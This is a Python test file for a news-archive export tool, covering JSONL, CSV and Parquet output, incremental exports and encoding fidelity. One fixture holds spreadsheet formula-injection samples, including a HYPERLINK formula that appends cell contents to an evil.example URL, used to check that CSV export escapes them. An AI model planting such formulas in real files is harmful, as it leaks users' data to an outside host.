"""Exports read back with the real readers; incremental exports over two crawls; safe files."""

from __future__ import annotations

import csv
import os
import stat
import json
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from sqlalchemy import select

from archive.export import ExportError, ExportFormat, prepare_output, run_export
from archive.filters import Filters
from archive.query import parse_query
from cli.export import FORMATS
from models.schema import Article
from tests.archive_items import make_article
from tests.archive_search_items import FORUM, HONGKONG, NANTONG, SUZHOU, sample_archive, store

SCHEMA = json.loads((Path(__file__).resolve().parents[1] / "schemas" / "article-export.v1.json").read_text())


@pytest.fixture
def archive(db_url):
    return sample_archive(db_url)


def _export(sessions, tmp_path, fmt, name="out", consumer=None, **filters):
    out = tmp_path / f"{name}{FORMATS[fmt].suffix}"
    count = run_export(sessions, FORMATS[fmt], Filters(**filters), prepare_output(out, FORMATS[fmt], True), consumer)
    return count, out


def _jsonl(path):
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]


def test_jsonl_records_follow_the_schema(archive, tmp_path):
    count, out = _export(archive, tmp_path, "jsonl")
    records = _jsonl(out)
    assert count == len(records) == 4
    for record in records:
        assert set(SCHEMA["required"]) <= set(record) <= set(SCHEMA["properties"])
    hk = next(r for r in records if r["canonical_url"] == HONGKONG)
    assert hk["title"] == "香港經濟穩步復甦" and hk["title_simplified"] == "香港经济稳步复苏"
    assert hk["authors"] == ["陳明"] and hk["urls"] == [HONGKONG]
    assert hk["published_at"] == "2024-02-01T10:30:00+08:00" and hk["version"] == 1


def test_csv_opens_in_excel_with_chinese_and_joined_lists(archive, tmp_path):
    _, out = _export(archive, tmp_path, "csv")
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = {row["canonical_url"]: row for row in csv.DictReader(handle)}
    assert set(rows) == {NANTONG, HONGKONG, SUZHOU, FORUM}
    assert rows[NANTONG]["body"].startswith("南通市今年推动5G网络建设")
    assert rows[NANTONG]["breadcrumbs"] == "人民网、江苏频道"


def test_parquet_has_proper_types(archive, tmp_path):
    _, out = _export(archive, tmp_path, "parquet")
    table = pq.read_table(out)
    assert set(table.column_names) == set(SCHEMA["properties"])
    assert pa.types.is_timestamp(table.schema.field("published_at").type)
    assert table.schema.field("authors").type == pa.list_(pa.string())
    rows = {row["canonical_url"]: row for row in table.to_pylist()}
    assert rows[NANTONG]["images"] == [{"url": "http://js.people.com.cn/img/1.jpg", "caption": "会议现场"}]
    assert rows[NANTONG]["published_at"].isoformat() == "2024-01-10T09:00:00+08:00"


def test_filters_and_query_select_what_is_exported(archive, tmp_path):
    count, out = _export(archive, tmp_path, "jsonl", query=parse_query("產業"), script="zh-Hans")
    assert count == 1 and [r["canonical_url"] for r in _jsonl(out)] == [NANTONG]


def test_incremental_export_over_two_crawls(archive, tmp_path):
    first, _ = _export(archive, tmp_path, "jsonl", "first", consumer="notebook")
    again, _ = _export(archive, tmp_path, "jsonl", "again", consumer="notebook")
    assert (first, again) == (4, 0)
    # second crawl: one article changed, one new, one unchanged
    store(
        archive,
        [
            make_article(NANTONG, title="南通推进产业升级（更新）", body="更新后的正文，南通产业继续升级。"),
            make_article("https://news.cn/2024/0401/5.html", title="新文章", body="一篇全新的文章正文内容。"),
            make_article(SUZHOU, site="xhby.net", title="苏州人才政策", body=sample_body(archive, SUZHOU)),
        ],
    )
    count, out = _export(archive, tmp_path, "jsonl", "second", consumer="notebook")
    records = {r["canonical_url"]: r["version"] for r in _jsonl(out)}
    assert count == 2 and records == {NANTONG: 2, "https://news.cn/2024/0401/5.html": 1}
    other, _ = _export(archive, tmp_path, "jsonl", "other", consumer="warehouse")
    assert other == 5  # each consumer has its own watermark


def sample_body(sessions, url):
    with sessions() as session:
        return session.scalar(select(Article.body).where(Article.canonical_url == url))


class _Failing:
    def __init__(self, stream, session):
        self.stream = stream

    def write(self, records):
        self.stream.write(b"partial")
        raise RuntimeError("disk full")

    def close(self):
        pass


def test_failed_export_leaves_no_file_and_no_watermark(archive, tmp_path):
    folder = tmp_path / "exports"
    folder.mkdir()
    with pytest.raises(RuntimeError):
        run_export(archive, ExportFormat(".jsonl", _Failing), Filters(), folder / "out.jsonl", "notebook")
    assert list(folder.iterdir()) == []
    count, _ = _export(archive, tmp_path, "jsonl", consumer="notebook")
    assert count == 4


def test_existing_file_is_kept_without_force(tmp_path):
    out = tmp_path / "a.jsonl"
    out.write_text("keep")
    with pytest.raises(ExportError, match="--force"):
        prepare_output(out, FORMATS["jsonl"], force=False)
    assert prepare_output(out, FORMATS["jsonl"], force=True) == out


@pytest.mark.parametrize("where", ["missing/a.jsonl", "."])
def test_unusable_output_fails_before_any_work(tmp_path, where):
    with pytest.raises(ExportError):
        prepare_output(tmp_path / where, FORMATS["jsonl"], force=True)


def test_parquet_needs_a_file():
    with pytest.raises(ExportError, match="--out"):
        prepare_output(None, FORMATS["parquet"], force=False)


def test_sqlite_jsonl_lines_are_the_bytes_json_dumps_gives(sqlite_url):
    """The SQLite fast path (lines built by the database, long texts escaped on bytes)
    must not drift from the schema records: same keys, order, escaping and time zones."""
    from archive.jsonl_export import encode, jsonl_batches
    from archive.records import record_batches

    def both() -> tuple[list[bytes], list[bytes]]:
        with sessions() as session:
            fast = [line for batch in jsonl_batches(session, Filters()) for line in batch.items]
            general = [encode(record) for batch in record_batches(session, Filters()) for record in batch.items]
        return fast, general

    sessions = sample_archive(sqlite_url)
    quoted = make_article(
        "https://news.cn/2024/0306/5.html",
        title='"引号"与\\反斜杠',
        body='正文有"引号"，路径C:\\data\\new。\n第二段。',
        images=[{"url": "https://news.cn/1.jpg", "caption": '图说"一"\\二'}],
        published_at="2024-03-06T01:02:03.456789+08:00",
        fetched_at="2024-03-06T00:00:00.000001+00:00",
        authors=["甲", "乙", "丙"],
        editors=[],
    )
    store(sessions, [quoted])
    fast, general = both()
    assert len(fast) == 5 and fast == general
    last = json.loads(fast[-1])
    assert last["body"] == '正文有"引号"，路径C:\\data\\new。\n第二段。'
    assert last["authors"] == ["甲", "乙", "丙"] and last["editors"] == []
    assert last["published_at"] == "2024-03-06T01:02:03.456789+08:00"
    assert last["images"] == [{"url": "https://news.cn/1.jpg", "caption": '图说"一"\\二'}]

    # control characters other than the newline take the general encoder
    store(sessions, [make_article("https://news.cn/2024/0307/6.html", body="制表符\t与\x01控制字符\u2028分隔。")])
    fast, general = both()
    assert len(fast) == 6 and fast == general
    assert json.loads(fast[-1])["body"] == "制表符\t与\x01控制字符\u2028分隔。"


FORMULAS = {"title": "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "source": "=1+2南通日报",
            "subtitle": "+86 025 1234", "pretitle": "-2+3", "original_title": "@SUM(1,2)", "body": "\t制表符开头的正文。"}


def test_csv_cells_that_spreadsheets_would_run_as_formulas_start_with_a_quote(archive, tmp_path):
    store(archive, [make_article("http://js.people.com.cn/n2/2024/0301/c1-9.html", **FORMULAS)])
    _, out = _export(archive, tmp_path, "csv")
    with out.open(encoding="utf-8-sig", newline="") as handle:
        row = next(r for r in csv.DictReader(handle) if r["canonical_url"].endswith("c1-9.html"))
    assert {name: row[name] for name in FORMULAS} == {name: "'" + value for name, value in FORMULAS.items()}
    assert row["id"].isdigit() and row["published_at"][0].isdigit()  # numbers and dates untouched


def test_raw_csv_and_jsonl_keep_formula_cells_as_stored(archive, tmp_path):
    store(archive, [make_article("http://js.people.com.cn/n2/2024/0301/c1-9.html", **FORMULAS)])
    raw = ExportFormat(suffix=".csv", open=lambda stream, session: FORMATS["csv"].open(stream, session, raw=True))
    out = tmp_path / "raw.csv"
    run_export(archive, raw, Filters(), prepare_output(out, raw, True), None)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        row = next(r for r in csv.DictReader(handle) if r["canonical_url"].endswith("c1-9.html"))
    assert {name: row[name] for name in FORMULAS} == FORMULAS
    _, jsonl = _export(archive, tmp_path, "jsonl")
    record = next(r for r in _jsonl(jsonl) if r["canonical_url"].endswith("c1-9.html"))
    assert {name: record[name] for name in FORMULAS} == FORMULAS


@pytest.mark.parametrize(("umask", "mode"), [(0o022, 0o644), (0o002, 0o664), (0o077, 0o600)])
def test_an_export_file_gets_the_mode_the_umask_gives_any_new_file(sqlite_url, tmp_path, umask, mode):
    sessions = sample_archive(sqlite_url)
    before = os.umask(umask)
    try:
        _, out = _export(sessions, tmp_path, "jsonl")
    finally:
        os.umask(before)
    assert stat.S_IMODE(out.stat().st_mode) == mode


def _json_dumps_line(record):
    """The line as the standard library writes it: the bytes every JSONL export must give."""
    return json.dumps(
        record, ensure_ascii=False, separators=(",", ":"), default=lambda value: value.isoformat()
    ).encode("utf-8")


def test_jsonl_lines_are_the_bytes_json_dumps_gives_on_both_databases(archive, tmp_path):
    """orjson writes the lines: quotes, backslashes, every control character, line
    separators, non-BMP characters, times with and without microseconds and empty or
    missing fields must come out as ``json.dumps`` writes them."""
    from archive.records import record_batches

    tricky = "".join(chr(code) for code in range(0x20)) + '"引号"\\反斜杠\u2028\u2029\x7f😀'
    store(archive, [
        make_article(
            "https://news.cn/2024/0306/5.html", title=tricky, body=f"正文{tricky}。\n第二段。", pretitle=None,
            images=[{"url": "https://news.cn/1.jpg", "caption": tricky}, {"url": "https://news.cn/2.jpg"}],
            breadcrumbs=[], published_at="2024-03-06T01:02:03.456789+08:00",
            fetched_at="2024-03-06T00:00:00.000001+00:00", authors=["甲", "乙", "丙"], editors=[],
        ),
    ])  # fmt: skip
    count, out = _export(archive, tmp_path, "jsonl")
    with archive() as session:
        records = [record for batch in record_batches(session, Filters()) for record in batch.items]
    lines = out.read_bytes().split(b"\n")
    assert count == len(records) == 5 and lines[-1] == b""
    assert lines[:-1] == [_json_dumps_line(record) for record in records]
    last = json.loads(lines[-2])
    for text in (last["title"], last["body"], last["images"][0]["caption"]):  # as normalised, still tricky
        assert {"\x01", "\x1f", '"', "\\", "\u2028", "😀"} <= set(text)
    assert last["published_at"] == "2024-03-06T01:02:03.456789+08:00"
    assert last["first_seen"] == "2024-03-06T08:00:00.000001+08:00"
    assert last["authors"] == ["甲", "乙", "丙"] and last["editors"] == [] and last["breadcrumbs"] == []


def test_every_article_gets_its_own_people_and_urls_whether_the_selection_is_dense_or_sparse(archive, tmp_path):
    """People and URLs are read per batch, by id range for a dense selection (which may
    take in articles left out between) and by id list for a sparse one: either way no
    article gets another's names or URLs."""
    new = {
        f"https://{site}/2024/0401/{n}.html": (site, source)
        for n, site, source in [(0, "news.cn", "稀疏报"), (1, "xhby.net", "新华网"), (2, "news.cn", "新华网"),
                                (3, "xhby.net", "新华网"), (4, "news.cn", "新华网"), (5, "xhby.net", "新华网"),
                                (6, "news.cn", "新华网"), (7, "news.cn", "稀疏报")]
    }  # fmt: skip
    store(archive, [
        make_article(url, site=site, source=source, authors=[f"作者{url[-6]}"], editors=[f"编辑{url[-6]}"],
                     body=f"第{url[-6]}篇文章的正文，" + "内容各不相同。" * int(url[-6]))
        for url, (site, source) in new.items()
    ])  # fmt: skip
    expected = {url: ([f"作者{url[-6]}"], [f"编辑{url[-6]}"], [url]) for url in new}

    def people_and_urls(**filters):
        _, out = _export(archive, tmp_path, "jsonl", "people", **filters)
        return {r["canonical_url"]: (r["authors"], r["editors"], r["urls"]) for r in _jsonl(out)}

    everything = people_and_urls()  # every id: a range
    assert len(everything) == 12 and everything[HONGKONG] == (["陳明"], ["黃麗"], [HONGKONG])
    assert {url: everything[url] for url in new} == expected
    every_other = people_and_urls(site="xhby.net")  # ids 3, 6, 8, 10: a range taking in 4, 5, 7, 9
    assert every_other == {SUZHOU: ([], ["李四"], [SUZHOU])} | {
        url: people for url, people in expected.items() if "xhby.net" in url
    }
    sparse = people_and_urls(source="稀疏报")  # ids 5 and 12: a list
    assert sparse == {url: people for url, people in expected.items() if new[url][1] == "稀疏报"}


def test_parquet_holds_the_records_jsonl_holds(archive, tmp_path):
    """Parquet is written from columns rather than records: the same articles, values
    and count must come out."""
    count, out = _export(archive, tmp_path, "parquet")
    _, jsonl = _export(archive, tmp_path, "jsonl")
    rows = pq.read_table(out).to_pylist()
    for row in rows:
        for name, value in row.items():
            if name == "images":
                row[name] = [{key: part for key, part in image.items() if part is not None} for image in value]
            elif hasattr(value, "isoformat"):
                row[name] = value.isoformat()
    records = _jsonl(jsonl)
    assert count == len(rows) == 4
    assert rows == [{name: record.get(name) for name in rows[0]} for record in records]
